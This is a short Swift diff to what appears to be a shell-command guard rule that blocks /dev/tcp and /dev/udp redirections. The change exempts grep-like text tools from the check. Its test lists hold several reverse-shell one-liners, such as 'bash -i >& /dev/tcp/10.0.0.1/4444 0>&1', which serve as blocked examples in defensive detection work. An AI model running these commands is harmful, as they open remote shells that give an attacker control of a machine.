@@ -7,9 +7,10 @@ extension GuardRule {
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/h/80",
         "sh -i 2>&1 <> /dev/udp/1.2.3.4/53", "cat < /dev/tcp/h/1 | sh",
       ],
-      safe: ["echo /dev/tcp/x", "ls /dev"]
+      safe: ["echo /dev/tcp/x", "ls /dev", "grep -rn /dev/tcp/ scripts/"]
     ) { command in
-      (command.redirections.map(\.target) + (command.runs("cat", "echo") ? [] : command.arguments))
+      let isText = command.runs("cat", "echo", "printf", "grep", "egrep", "fgrep", "rg", "ag")
+      return (command.redirections.map(\.target) + (isText ? [] : command.arguments))
         .contains { $0.text.hasPrefix("/dev/tcp/") || $0.text.hasPrefix("/dev/udp/") }
     },
     GuardRule(
